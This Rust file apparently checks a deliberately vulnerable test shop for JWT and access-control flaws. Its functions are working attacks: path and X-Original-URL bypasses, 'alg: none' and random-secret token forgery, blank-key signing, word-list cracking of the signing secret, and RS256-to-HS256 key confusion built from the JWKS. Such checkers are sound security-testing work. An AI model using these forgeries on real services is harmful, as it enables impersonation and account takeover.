//! Exploits of authentication: no token, any token, forged tokens.

use crate::desk::Desk;
use aws_lc_rs::hmac;
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Value, json};

pub(crate) async fn reads_stock_as_nobody(desk: &Desk) -> bool {
    !desk.get("/warehouse/stock", None).await.items().is_empty()
}

pub(crate) async fn reads_offers_with_garbage(desk: &Desk) -> bool {
    let nobody = desk.get("/loyalty/offers", None).await.status;
    let garbage = desk.get("/loyalty/offers", Some("zzzz")).await;
    nobody == 401 && garbage.items().len() == 3
}

pub(crate) async fn reads_prices_by_another_spelling(desk: &Desk) -> bool {
    let plain = desk.get("/partners/prices", None).await.status;
    let mut open = Vec::new();
    for spelling in ["/partners/prices/", "/partners/prices;x=1", "//partners/prices"] {
        open.push(!desk.get(spelling, None).await.items().is_empty());
    }
    let target = format!("{}/partners/prices", desk.prefix);
    let header = desk.ask("GET", "/", &[("X-Original-URL", &target)], None).await;
    open.push(!header.items().is_empty());
    let sibling = desk.get("/partners/zzzz/", None).await.status;
    assert!(open.iter().all(|one| *one == open[0]), "the spellings agree: {open:?}");
    plain == 401 && sibling == 404 && open[0]
}

fn claims(token: &str) -> Value {
    let payload = token.split('.').nth(1).unwrap_or_default();
    serde_json::from_slice(&URL_SAFE_NO_PAD.decode(payload).unwrap()).unwrap()
}

fn signed_part(header: &Value, claims: &Value) -> String {
    let encode = |value: &Value| URL_SAFE_NO_PAD.encode(value.to_string());
    format!("{}.{}", encode(header), encode(claims))
}

/// The claims of B's token, signed with a secret of ours.
fn forged(desk: &Desk, secret: &[u8]) -> String {
    let signed = signed_part(&json!({"alg": "HS256", "typ": "JWT"}), &claims(&desk.b));
    let key = hmac::Key::new(hmac::HMAC_SHA256, secret);
    let signature = URL_SAFE_NO_PAD.encode(hmac::sign(&key, signed.as_bytes()));
    format!("{signed}.{signature}")
}

/// Whether the forged token gets what B gets.
async fn passes_as_b(desk: &Desk, path: &str, token: &str) -> bool {
    let honest = desk.get(path, Some(&desk.b)).await;
    let forged = desk.get(path, Some(token)).await;
    assert_eq!(honest.status, 200, "{path}");
    forged.status == 200 && forged.text == honest.text
}

pub(crate) async fn passes_with_random_signature(desk: &Desk) -> bool {
    passes_as_b(desk, "/profile/preferences", &forged(desk, b"zzzz")).await
}

pub(crate) async fn passes_unsigned(desk: &Desk) -> bool {
    let token = format!("{}.", signed_part(&json!({"alg": "none"}), &claims(&desk.b)));
    let control = passes_as_b(desk, "/wallet", &forged(desk, b"zzzz")).await;
    !control && passes_as_b(desk, "/wallet", &token).await
}

pub(crate) async fn passes_with_blank_key(desk: &Desk) -> bool {
    let control = passes_as_b(desk, "/coupons", &forged(desk, b"zzzz")).await;
    !control && passes_as_b(desk, "/coupons", &forged(desk, b"")).await
}

pub(crate) fn secret_is_in_a_word_list(desk: &Desk) -> bool {
    let (signed, signature) = desk.a.rsplit_once('.').unwrap();
    let signature = URL_SAFE_NO_PAD.decode(signature).unwrap();
    ["password", "secret", "secret123", "changeme"].iter().any(|word| {
        let key = hmac::Key::new(hmac::HMAC_SHA256, word.as_bytes());
        hmac::verify(&key, signed.as_bytes(), &signature).is_ok()
    })
}

pub(crate) fn token_tells_about_the_person(desk: &Desk) -> bool {
    let claims = claims(&desk.a);
    claims["email"].is_string() && claims["phone"].is_string() && claims["exp"].is_null()
}

pub(crate) async fn passes_with_public_key_as_secret(desk: &Desk) -> bool {
    let keys = desk.ask("GET", "/.well-known/jwks.json", &[], None).await.json();
    let key = &keys["keys"][0];
    let Some(pem) = pem_of(key) else { return false };
    let control = passes_as_b(desk, "/me", &forged(desk, b"zzzz")).await;
    !control && passes_as_b(desk, "/me", &forged(desk, pem.as_bytes())).await
}

/// The key of a JSON Web Key set as PEM, put together from modulus and exponent.
fn pem_of(key: &Value) -> Option<String> {
    let number = |name: &str| {
        let mut digits = URL_SAFE_NO_PAD.decode(key[name].as_str()?).ok()?;
        if digits[0] >= 0x80 {
            digits.insert(0, 0);
        }
        Some(element(0x02, &digits))
    };
    let key = element(0x30, &[number("n")?, number("e")?].concat());
    let algorithm =
        [0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00];
    let bits = element(0x03, &[&[0], key.as_slice()].concat());
    let text = STANDARD.encode(element(0x30, &[algorithm.as_slice(), &bits].concat()));
    let lines: Vec<&str> =
        text.as_bytes().chunks(64).map(|line| std::str::from_utf8(line).unwrap()).collect();
    Some(format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", lines.join("\n")))
}

fn element(tag: u8, value: &[u8]) -> Vec<u8> {
    let mut bytes = vec![tag];
    match u16::try_from(value.len()).unwrap().to_be_bytes() {
        [0, length @ 0..0x80] => bytes.push(length),
        [0, length] => bytes.extend([0x81, length]),
        [high, low] => bytes.extend([0x82, high, low]),
    }
    bytes.extend(value);
    bytes
}

#[tokio::test]
async fn a_careful_rs256_issuer_refuses_its_public_key_as_a_secret() {
    let options = avouch_range::ShopOptions { rs256: true, ..Default::default() };
    let desk = Desk::with(options).await;
    assert_eq!(desk.get("/me", Some(&desk.a)).await.status, 200);
    assert!(!passes_with_public_key_as_secret(&desk).await);
}

#[tokio::test]
async fn a_token_is_taken_from_the_session_cookie_too() {
    let desk = Desk::open(avouch_range::Switches::none()).await;
    let cookie = format!("theme=dark; session={}", desk.a);
    let reply = desk.ask("GET", "/me", &[("cookie", &cookie)], None).await;
    assert_eq!(reply.json()["name"], "Mara Lindqvist");
}
